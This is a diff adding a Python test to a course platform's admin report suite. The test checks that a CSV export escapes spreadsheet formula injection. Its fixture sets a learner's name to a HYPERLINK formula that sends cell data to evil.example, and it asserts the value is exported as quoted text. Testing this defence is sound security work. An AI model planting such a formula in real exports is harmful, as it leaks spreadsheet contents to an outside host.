@@ -456,6 +456,24 @@ def test_instructor_report_page_in_the_admin(people, usage, course, other_course
     assert "/admin/reports/lesson-documents/" in menu.content.decode()
 
 
+def test_a_learner_named_like_a_formula_exports_as_text_not_as_a_formula(people, usage):
+    import csv
+    import io
+
+    learner = people["enrolled_student"]
+    learner.first_name, learner.last_name = '=HYPERLINK("https://evil.example/?d="&A1,"Open")', ""
+    learner.email = "+27@example.com"
+    learner.save()
+
+    export = client_as(people["owner"]).get("/admin/reports/lesson-documents/?export=csv")
+
+    header, row = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    cells = dict(zip(header, row))
+    assert cells["student"] == """'=HYPERLINK("https://evil.example/?d="&A1,"Open")"""
+    assert cells["email"] == "'+27@example.com"
+    assert (cells["course"], cells["opens"], cells["downloads"]) == ("Budgeting basics", "1", "1")
+
+
 def test_instructor_filters_by_their_course_but_cannot_filter_their_way_into_another(people, usage, course, other_course):
     owner = client_as(people["owner"])
 
